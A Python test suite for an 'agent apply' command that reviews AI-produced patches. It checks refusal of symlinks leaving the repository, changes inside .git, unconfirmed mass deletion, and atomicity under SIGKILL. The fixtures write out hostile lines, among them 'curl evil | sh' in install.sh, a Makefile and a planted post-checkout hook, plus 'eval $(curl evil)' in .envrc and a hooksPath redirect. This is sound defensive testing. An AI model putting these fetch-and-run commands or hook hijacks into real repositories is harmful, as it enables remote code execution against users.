"""Attacks on the user's repository through ``agent apply``: a hostile patch (links out of the
repository, changes in ``.git``, executables and files tools run by themselves, mass deletion)
and an apply killed half-way (``core/apply/``).

The patches are made the way a run makes them (``core.workspace.snapshot`` and ``diff``), the runs
are stored the way ``core.runner`` stores them (a run store naming the repository, ``patch.diff``
beside it), and ``agent apply`` is called as a user calls it (``core.cli``).
"""

from __future__ import annotations

import hashlib
import os
import pty
import random
import select
import shutil
import signal
import stat
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import closing
from pathlib import Path

import pytest
from typer.testing import CliRunner

from core import apply as transaction
from core import workspace as ws
from core.cli import app
from core.config import runs_dir
from core.errors import UserError
from core.store import RunStore

ROOT = Path(__file__).resolve().parents[2]
runner = CliRunner()


# --------------------------------------------------------------------------------------------
# helpers


def tree_hash(root: Path) -> str:
    """A hash of everything under ``root``: paths, types, modes, link targets, file contents."""
    digest = hashlib.sha256()
    for rel, value in sorted(tree_map(root).items()):
        digest.update(f"{rel}\0{value}\0".encode("utf-8", "surrogateescape"))
    return digest.hexdigest()


def tree_map(root: Path) -> dict[str, str]:
    found: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            st = os.lstat(path)
            rel = path.relative_to(root).as_posix()
            if stat.S_ISLNK(st.st_mode):
                found[rel] = "link " + os.readlink(path)
            elif stat.S_ISDIR(st.st_mode):
                found[rel] = f"dir {stat.S_IMODE(st.st_mode):o}"
            else:
                found[rel] = f"file {stat.S_IMODE(st.st_mode):o} {hashlib.sha256(path.read_bytes()).hexdigest()}"
    return found


def make_patch(repo: Path, scratch: Path, change: Callable[[Path], None]) -> str:
    """The patch a run would leave after ``change(workspace)`` on a copy of ``repo``."""
    work, base = scratch / "work", scratch / "baseline.git"
    ws.copy_repository(repo, work)
    ws.snapshot(work, base)
    change(work)
    return ws.diff(work, base)


def store_run(run_id: str, repo: Path, patch: str) -> Path:
    """A finished run on ``repo`` whose final patch is ``patch``, as the runner leaves it."""
    folder = runs_dir() / run_id
    folder.mkdir(parents=True)
    (folder / "patch.diff").write_text(patch, errors="surrogateescape")
    with closing(RunStore(folder / "trajectory.duckdb")) as store:
        store.create_run(run_id, plugin="coding", task="t", repo=str(repo), policy="scripted", status="finished")
    return folder


def small_repo(path: Path) -> Path:
    (path / "src").mkdir(parents=True)
    (path / "README.md").write_text("# project\n")
    (path / "src" / "app.py").write_text("x = 1\n")
    (path / "src" / "util.py").write_text("def f():\n    return 1\n")
    (path / "old.txt").write_text("old\n")
    (path / "run.sh").write_text("echo hi\n")
    (path / "private.txt").write_text("mine\n")
    os.chmod(path / "private.txt", 0o600)
    subprocess.run(["git", "init", "-q"], cwd=path, check=True)
    return path


def apply_cli(*args: str) -> tuple[int, str]:
    result = runner.invoke(app, ["apply", *args])
    return result.exit_code, result.output


def leftovers(repo: Path) -> list[str]:
    """What the transaction folder holds besides its lock, its git database and kept backups."""
    area = transaction.area_of(repo)
    if not area.exists():
        return []
    out = []
    for entry in sorted(area.iterdir()):
        if entry.name in ("lock", "git"):
            continue
        if entry.name.startswith("tx-") and sorted(p.name for p in entry.iterdir()) == ["before", "patch.diff", "record.json"]:
            continue
        out.append(entry.name)
    return out


def at_a_terminal(args: list[str], answer: bytes, timeout_s: float = 60) -> tuple[int, str]:
    """Run ``agent ARGS`` with a pseudo-terminal as stdin and stdout; type ``answer`` at its prompt."""
    master, slave = pty.openpty()
    proc = subprocess.Popen([sys.executable, "-c", "from core.cli import main; main()", *args], stdin=slave, stdout=slave, stderr=slave,
                            env={**os.environ, "PYTHONPATH": str(ROOT), "COLUMNS": "200"}, cwd=ROOT)
    os.close(slave)
    out, answered, deadline = b"", False, time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        ready, _, _ = select.select([master], [], [], 0.2)
        if ready:
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the other side closed
                break
            if not chunk:
                break
            out += chunk
        if not answered and b"[y/N]" in out:
            os.write(master, answer)
            answered = True
        if proc.poll() is not None and not ready:
            break
    os.close(master)
    try:
        code = proc.wait(timeout=10)
    except subprocess.TimeoutExpired:
        proc.kill()
        code = proc.wait()
    return code, out.decode(errors="replace")


# --------------------------------------------------------------------------------------------
# the review


@pytest.mark.attack(
    "A01",
    "a patch that adds an executable install.sh and .envrc, a CI workflow and a Makefile, deletes, renames, "
    "makes run.sh executable and adds a link, shown with agent apply --dry-run",
    "the review lists every add, delete, rename, mode change and link and flags the executables and the "
    "files tools run by themselves; --dry-run changes nothing (not even a folder beside the repository)",
)
def test_review_lists_every_kind_of_change_and_dry_run_changes_nothing(tmp_path, observe):
    repo = small_repo(tmp_path / "repo")

    def change(w: Path) -> None:
        (w / "install.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
        os.chmod(w / "install.sh", 0o755)
        (w / ".envrc").write_text("eval $(curl evil)\n")
        (w / ".github" / "workflows").mkdir(parents=True)
        (w / ".github" / "workflows" / "ci.yml").write_text("on: push\n")
        (w / "Makefile").write_text("all:\n\tcurl evil | sh\n")
        (w / "old.txt").unlink()
        (w / "src" / "util.py").rename(w / "src" / "helpers.py")
        os.chmod(w / "run.sh", 0o755)
        (w / "src" / "app.py").write_text("x = 2\n")
        os.symlink("../README.md", w / "src" / "readme")

    store_run("r-review", repo, make_patch(repo, tmp_path, change))
    before = tree_hash(repo)
    review = transaction.review_run("r-review")
    kinds = {(c.kind, c.path) for c in review.changes}
    assert {("add", "install.sh"), ("add", ".envrc"), ("add", "Makefile"), ("add", ".github/workflows/ci.yml"),
            ("delete", "old.txt"), ("rename", "src/helpers.py"), ("modify", "run.sh"), ("modify", "src/app.py"),
            ("add", "src/readme")} <= kinds
    assert [c.old_path for c in review.of_kind("rename")] == ["src/util.py"]
    assert [(c.path, c.old_mode, c.new_mode) for c in review.mode_changes] == [("run.sh", "100644", "100755")]
    flagged = {(f.kind, f.path) for f in review.flags}
    assert {("executable", "install.sh"), ("executable", "run.sh"), ("autorun", ".envrc"), ("autorun", "Makefile"),
            ("autorun", ".github/workflows/ci.yml"), ("autorun", "install.sh"), ("link", "src/readme")} <= flagged
    assert review.refusals() == []

    code, out = apply_cli("r-review", "--dry-run")
    assert code == 0, out
    for text in ("added     install.sh", "deleted   old.txt", "renamed   src/util.py -> src/helpers.py",
                 "mode 100644 -> 100755", "! new executable: install.sh", "! .envrc: direnv runs it",
                 "! symbolic link: src/readme -> ../README.md", "dry run: would apply; your files are unchanged"):
        assert text in out, out
    assert "+#!/bin/sh" in out and "+curl evil | sh" in out and "@@ " in out  # the diff lines a reviewer reads, not only the files
    assert tree_hash(repo) == before
    assert not transaction.area_of(repo).exists()
    observe(f"review: {len(review.changes)} files, flags {sorted(k for k, _ in flagged)}; dry run: tree unchanged, nothing beside it")


@pytest.mark.attack(
    "A02",
    "turn README.md into a symbolic link to a secret outside the repository (relative ../secret, absolute "
    "/etc/passwd, through a link the user already had that points out), or move an inside link docs/readme -> "
    "../README.md one folder up so that it points out",
    "refused before anything changes, naming --allow-outside-links; the repository is byte-identical",
)
def test_a_link_leaving_the_repository_is_refused(tmp_path, observe):
    repo = small_repo(tmp_path / "repo")
    (tmp_path / "secret").write_text("TOKEN\n")
    os.symlink(str(tmp_path), repo / "outside")  # the user's own link out (not the patch's)
    (repo / "docs").mkdir()
    os.symlink("../README.md", repo / "docs" / "readme")  # inside; moved one folder up, it points out
    before = tree_hash(repo)
    moved = "diff --git a/docs/readme b/readme\nsimilarity index 100%\nrename from docs/readme\nrename to readme\n"
    store_run("r-link-moved", repo, moved)
    code, out = apply_cli("r-link-moved", "--yes")
    assert code == 2 and "symbolic link leaving the repository: readme -> ../README.md" in out, out
    seen = ["docs/readme moved to readme"]
    for i, target in enumerate(["../secret", "/etc/passwd", "outside/secret"]):
        def change(w: Path, target: str = target) -> None:
            (w / "README.md").unlink()
            os.symlink(target, w / "README.md")

        store_run(f"r-link-{i}", repo, make_patch(repo, tmp_path / f"p{i}", change))
        code, out = apply_cli(f"r-link-{i}", "--yes")
        assert code == 2, out
        assert "symbolic link leaving the repository" in out and "--allow-outside-links" in out and "unchanged" in out
        assert tree_hash(repo) == before
        with pytest.raises(UserError, match="leaving the repository"):
            transaction.apply_run_patch(f"r-link-{i}")
        seen.append(target)
    # allowed on purpose, it applies (the flag is the user's decision)
    outcome = transaction.apply_run_patch("r-link-0", allow_outside_links=True)
    assert outcome.state == "applied" and os.readlink(repo / "README.md") == "../secret"
    observe(f"refused {seen}; repository unchanged; with --allow-outside-links: applied")


@pytest.mark.attack(
    "A03",
    "plant code in .git through the patch: .git/hooks/post-checkout (new, executable), .git/config, "
    "and a link src/cfg -> ../.git/config",
    "refused (any path component .git, and links into .git), naming --allow-git-dir; .git unchanged",
)
def test_a_change_inside_git_is_refused(tmp_path, observe):
    repo = small_repo(tmp_path / "repo")
    before = tree_hash(repo)
    hook = ("diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout\nnew file mode 100755\n"
            "index 0000000..1a24852\n--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1,2 @@\n+#!/bin/sh\n+curl evil | sh\n")
    config = ("diff --git a/src/app.py b/src/app.py\n--- a/src/app.py\n+++ b/src/app.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
              "diff --git a/.git/config b/.git/config\n--- a/.git/config\n+++ b/.git/config\n@@ -1 +1,2 @@\n"
              f" {(repo / '.git' / 'config').read_text().splitlines()[0]}\n+\thooksPath = /tmp/evil\n")

    def link(w: Path) -> None:
        os.symlink("../.git/config", w / "src" / "cfg")

    patches = {"hook": hook, "config": config, "link": make_patch(repo, tmp_path, link)}
    for name, patch in patches.items():
        store_run(f"r-git-{name}", repo, patch)
        code, out = apply_cli(f"r-git-{name}", "--yes")
        assert code == 2, out
        assert ".git" in out and "--allow-git-dir" in out and "unchanged" in out, out
        assert tree_hash(repo) == before
    observe(f"refused {sorted(patches)}; .git unchanged")


# --------------------------------------------------------------------------------------------
# consent, undo


@pytest.mark.attack(
    "A04",
    "apply a patch that deletes every file without a terminal to confirm (agent apply RUN_ID from a script, "
    "stdin not a terminal, no --yes), and answer no at a terminal",
    "the review (with 'deletes N files') is printed, nothing is applied, the command exits at once naming "
    "--yes; the repository is byte-identical",
)
def test_no_consent_no_change(tmp_path, observe):
    repo = small_repo(tmp_path / "repo")
    for i in range(60):
        (repo / f"data{i}.txt").write_text(f"{i}\n")
    before = tree_hash(repo)

    def wipe(w: Path) -> None:
        for p in w.iterdir():
            if p.name != ".git":
                shutil.rmtree(p) if p.is_dir() and not p.is_symlink() else p.unlink()

    store_run("r-wipe", repo, make_patch(repo, tmp_path, wipe))
    started = time.monotonic()
    code, out = apply_cli("r-wipe")
    assert code == 2 and "--yes" in out and "deletes 66 files" in out and "unchanged" in out, out
    assert time.monotonic() - started < 30
    code, out = at_a_terminal(["apply", "r-wipe"], answer=b"n\n")
    assert code == 1 and "[y/N]" in out and "not applied" in out, out
    assert tree_hash(repo) == before
    observe("no terminal: refused naming --yes; answered no: not applied; tree unchanged")


def test_apply_then_undo_restores_byte_identical_and_keeps_later_edits(tmp_path):
    repo = small_repo(tmp_path / "repo")
    (repo / "keep.txt").write_text("untouched\n")
    before_map = tree_map(repo)

    def change(w: Path) -> None:
        (w / "src" / "app.py").write_text("x = 2\n")
        (w / "private.txt").write_text("mine, edited\n")
        (w / "old.txt").unlink()
        (w / "pkg" / "deep").mkdir(parents=True)
        (w / "pkg" / "deep" / "new.py").write_text("y = 1\n")
        (w / "src" / "util.py").rename(w / "src" / "helpers.py")
        os.chmod(w / "run.sh", 0o755)

    store_run("r-undo", repo, make_patch(repo, tmp_path, change))
    code, out = apply_cli("r-undo", "--yes")
    assert code == 0, out
    assert "applied the patch" in out and "agent apply --undo r-undo" in out and "cd ." in out
    assert (repo / "src" / "app.py").read_text() == "x = 2\n" and not (repo / "old.txt").exists()
    assert stat.S_IMODE(os.lstat(repo / "private.txt").st_mode) == 0o600  # a private file stays private
    assert os.access(repo / "run.sh", os.X_OK)
    record = transaction.undo_summary(runs_dir() / "r-undo" / "apply.json")
    assert record["state"] == "applied" and Path(record["backup"]).is_dir() and record["files"]["deleted"] == ["old.txt"]
    code, out = apply_cli("r-undo", "--yes")  # a second apply says so, and changes nothing
    assert code == 2 and "already applied" in out
    (repo / "keep.txt").write_text("edited after the apply\n")  # not a file the patch touched
    code, out = apply_cli("r-undo", "--undo", "--yes")
    assert code == 0, out
    assert "restored" in out
    after_undo = tree_map(repo)
    assert after_undo.pop("keep.txt") != before_map.pop("keep.txt")
    assert after_undo == before_map  # byte-identical, folders and modes included
    assert leftovers(repo) == [] and not list(transaction.area_of(repo).glob("tx-*"))  # the backup is gone with the undo
    code, out = apply_cli("r-undo", "--undo", "--yes")
    assert code == 2 and "undone already" in out


def test_only_the_last_backups_are_kept_and_named(tmp_path):
    repo = small_repo(tmp_path / "repo")
    for i in range(transaction.KEEP_BACKUPS + 1):
        def change(w: Path, i: int = i) -> None:
            (w / f"file{i}.txt").write_text(f"{i}\n")

        store_run(f"r-keep-{i}", repo, make_patch(repo, tmp_path / f"p{i}", change))
        code, out = apply_cli(f"r-keep-{i}", "--yes")
        assert code == 0 and str(transaction.area_of(repo)) in out, out
    assert len(list(transaction.area_of(repo).glob("tx-*/before"))) == transaction.KEEP_BACKUPS
    assert transaction._read_json(runs_dir() / "r-keep-0" / "apply.json")["backup"] is None
    code, out = apply_cli("r-keep-0", "--undo", "--yes")
    assert code == 2 and "backup of this apply is gone" in out and "unchanged" not in out.split("gone")[0], out
    code, out = apply_cli(f"r-keep-{transaction.KEEP_BACKUPS}", "--undo", "--yes")
    assert code == 0 and not (repo / f"file{transaction.KEEP_BACKUPS}.txt").exists()


@pytest.mark.attack(
    "A05",
    "undo an apply after the user edited a file the patch had changed (agent apply --undo RUN_ID)",
    "refused, naming the changed file: undo would lose the edit; the repository is byte-identical",
)
def test_undo_refuses_when_touched_files_changed_since(tmp_path, observe):
    repo = small_repo(tmp_path / "repo")

    def change(w: Path) -> None:
        (w / "src" / "app.py").write_text("x = 2\n")
        (w / "added.txt").write_text("new\n")

    store_run("r-changed", repo, make_patch(repo, tmp_path, change))
    assert apply_cli("r-changed", "--yes")[0] == 0
    (repo / "added.txt").write_text("the user's work\n")
    before = tree_hash(repo)
    code, out = apply_cli("r-changed", "--undo", "--yes")
    assert code == 2 and "cannot undo" in out and "added.txt" in out and "unchanged" in out, out
    assert tree_hash(repo) == before
    observe(" ".join(out.split("error:", 1)[-1].split())[:200])


# --------------------------------------------------------------------------------------------
# killed half-way

N_FILES = 2400  # in the repository before the patch
KILLS = 50

# The old in-place `git apply`, killed the same way with its process group (as Ctrl-C does), left 10
# of 20 repositories half-applied, up to 1,574 files missing, on this patch.
DRIVER = """
import sys, time
started = time.monotonic()
from pathlib import Path
import core.apply as a
import core.apply.swap as swapping  # where _commit looks _swap up
if len(sys.argv) > 4:  # a measuring run: say when the swap starts
    swap = swapping._swap
    def timed(*args):
        print(f"swap at {time.monotonic() - started:.4f}", flush=True)
        return swap(*args)
    swapping._swap = timed
review = a.review_patch(Path(sys.argv[1]), Path(sys.argv[2]))
a.apply_patch(review, run_id="kill", run_record=Path(sys.argv[3]))
"""


def big_repo(path: Path, rng: random.Random) -> Path:
    for i in range(N_FILES):
        folder = path / f"pkg{i % 20:02d}" / f"sub{i % 3}"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"mod{i:04d}.py").write_text("".join(f"line {i} {j} {rng.random()}\n" for j in range(rng.randint(2, 30))))
    (path / "bin").mkdir()
    (path / "bin" / "tool").write_text("#!/bin/sh\n")
    os.chmod(path / "bin" / "tool", 0o755)
    os.symlink("pkg00/sub0/mod0000.py", path / "entry.py")
    subprocess.run(["git", "init", "-q"], cwd=path, check=True)
    return path


def big_change(w: Path, rng: random.Random) -> None:
    shutil.rmtree(w / "pkg19")  # a whole folder goes
    files = sorted(p for p in w.rglob("*.py") if p.is_file() and not p.is_symlink() and ".git" not in p.parts)
    rng.shuffle(files)
    modify, delete, rename, chmod = files[:400], files[400:1300], files[1300:1400], files[1400:1450]
    for p in modify:
        p.write_text(p.read_text() + f"changed {rng.random()}\n")
    for p in delete:
        p.unlink()
    for p in rename:
        p.rename(p.with_name("renamed_" + p.name))
    for p in chmod:
        os.chmod(p, 0o755)
    for i in range(900):  # additions, some in new folders
        folder = w / (f"new{i % 10:02d}" if i % 2 else f"pkg{i % 19:02d}")
        folder.mkdir(exist_ok=True)
        (folder / f"added{i:04d}.py").write_text(f"added {i} {rng.random()}\n" * rng.randint(1, 20))
    (w / "data.bin").write_bytes(bytes(rng.randrange(256) for _ in range(4096)))
    os.symlink("new01/added0001.py", w / "new_entry.py")


@pytest.mark.attack(
    "A06",
    f"SIGKILL agent apply at {KILLS} random instants (half of them with its git, as kill -9 of the process group) "
    f"while it applies a patch of thousands of files to a {N_FILES}-file repository (400 modified, ~1,000 deleted, "
    "100 renamed, 50 made executable, 900 added, a link, a binary)",
    "every time the repository is byte-identical to before or to after, never half-applied; the next agent apply "
    "recovers, and --undo restores the before state byte for byte",
)
def test_sigkill_at_random_instants_leaves_old_or_new(tmp_path, observe):
    rng = random.Random(13)
    template = big_repo(tmp_path / "template", rng)
    patch = tmp_path / "big.diff"
    patch.write_text(make_patch(template, tmp_path / "patch", lambda w: big_change(w, rng)), errors="surrogateescape")
    before = tree_hash(template)
    repo = tmp_path / "repo"
    subprocess.run(["cp", "-a", str(template), str(repo)], check=True)
    record = tmp_path / "apply.json"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    argv = [sys.executable, "-c", DRIVER, str(repo), str(patch), str(record)]

    # three whole applies, undone, to measure the duration and the swap's instant, and to know the tree after
    durations, swaps = [], []
    for _ in range(3):
        started = time.monotonic()
        out = subprocess.run([*argv, "measure"], env=env, check=True, cwd=tmp_path, capture_output=True, text=True).stdout
        durations.append(time.monotonic() - started)
        swaps.append(float(out.split("swap at ")[1].split()[0]))
        after = tree_hash(repo)
        transaction.undo(record)
        assert tree_hash(repo) == before
    assert after != before
    duration, swap_at = sorted(durations)[1], sorted(swaps)[1]  # medians
    tail = sorted(d - w for d, w in zip(durations, swaps, strict=True))[1]  # from the swap to the end
    touched = len(transaction.review_patch(repo, patch).touched())

    ended = {"old": 0, "new": 0}
    recovered = 0
    started_all = time.monotonic()
    journal = transaction.area_of(repo) / "journal.json"
    for trial in range(KILLS):
        # Even trials: an instant over the whole apply. Odd ones: an instant over its end, from the
        # moment its journal appears (the swap is next) to its end; waiting for the journal keeps
        # them there however slow a loaded machine makes the staging.
        proc = subprocess.Popen(argv, env=env, cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                start_new_session=True)
        if trial % 2 == 0:
            delay = rng.uniform(0, duration)
        else:
            delay = rng.uniform(0, tail)
            deadline = time.monotonic() + 60
            while not journal.exists() and proc.poll() is None and time.monotonic() < deadline:
                time.sleep(0.001)
        time.sleep(delay)
        if rng.random() < 0.5:
            os.killpg(proc.pid, signal.SIGKILL)  # the process and its git at once (kill -9 of the group)
        else:
            proc.send_signal(signal.SIGKILL)  # the process only: its git must not write on
        proc.wait()
        now = tree_hash(repo)
        assert now in (before, after), f"trial {trial}: killed after {delay:.3f} s, the repository is neither before nor after"
        notes = transaction.recover(repo)  # what the next agent apply does first
        recovered += bool(notes)
        assert tree_hash(repo) == now, f"trial {trial}: recovery changed the repository"
        assert leftovers(repo) == [], f"trial {trial} ({delay:.3f} s, notes {notes}): " + str(
            {n: sorted(p.name for p in (transaction.area_of(repo) / n).iterdir()) for n in leftovers(repo)})
        if now == after:
            ended["new"] += 1
            transaction.undo(record)
            assert tree_hash(repo) == before, f"trial {trial}: undo did not restore the state before"
        else:
            ended["old"] += 1
            assert not record.exists() or transaction._read_json(record)["state"] == "undone"
    elapsed = time.monotonic() - started_all
    assert ended["old"] and ended["new"], ended  # the kills landed on both sides of the swap
    observe(f"{KILLS} kills over a {duration:.2f} s apply (swap at {swap_at:.2f} s, {tail:.2f} s after it) of {touched} touched paths in a {N_FILES + 3}-file repository: "
            f"{ended['old']} ended before, {ended['new']} after (every one undone to before), never in between; "
            f"{recovered} needed recovery; {elapsed:.0f} s in all")
    print(f"\nkill test: {ended}, apply {durations}, swap at {swaps}, {recovered} recovered, {elapsed:.1f} s")


KILL_BETWEEN_RENAMES = """
import errno, os, signal, sys
from pathlib import Path
import core.apply as a
import core.apply.swap as swapping  # where _swap looks _exchange up

def no_exchange(x, y):
    raise OSError(errno.EINVAL, "no RENAME_EXCHANGE here")

real_rename = os.rename
def rename(src, dst):
    if Path(dst) == Path(sys.argv[1]):  # the second rename: staged -> repository
        os.kill(os.getpid(), signal.SIGKILL)
    real_rename(src, dst)

swapping._exchange = no_exchange
os.rename = rename
review = a.review_patch(Path(sys.argv[1]), Path(sys.argv[2]))
a.apply_patch(review, run_id="fallback", run_record=Path(sys.argv[3]))
"""


@pytest.mark.attack(
    "A07",
    "on a filesystem without RENAME_EXCHANGE (the two-rename fallback), SIGKILL agent apply between its two "
    "renames, when the repository's path names nothing",
    "the journal lets the next agent apply finish the swap: the repository is back, byte-identical to the "
    "patched tree, recorded, and --undo restores it",
)
def test_fallback_swap_killed_between_renames_is_finished_by_the_next_apply(tmp_path, observe):
    repo = small_repo(tmp_path / "repo")
    before = tree_hash(repo)

    def change(w: Path) -> None:
        (w / "src" / "app.py").write_text("x = 2\n")
        (w / "old.txt").unlink()
        (w / "new.txt").write_text("new\n")

    patch = tmp_path / "p.diff"
    patch.write_text(make_patch(repo, tmp_path / "patch", change))
    record = tmp_path / "apply.json"
    proc = subprocess.run([sys.executable, "-c", KILL_BETWEEN_RENAMES, str(repo), str(patch), str(record)],
                          env={**os.environ, "PYTHONPATH": str(ROOT)}, cwd=tmp_path, check=False)
    assert proc.returncode == -signal.SIGKILL
    assert not os.path.lexists(repo)  # the one window the fallback has
    notes = transaction.recover(repo)
    assert any("between its two renames" in n for n in notes), notes
    assert (repo / "src" / "app.py").read_text() == "x = 2\n" and (repo / "new.txt").exists()
    assert transaction._read_json(record)["swap"] == "two renames"
    assert leftovers(repo) == []
    transaction.undo(record)
    assert tree_hash(repo) == before
    observe(f"killed between the renames: path missing; recover: {notes[0][:90]}...; undo: byte-identical")
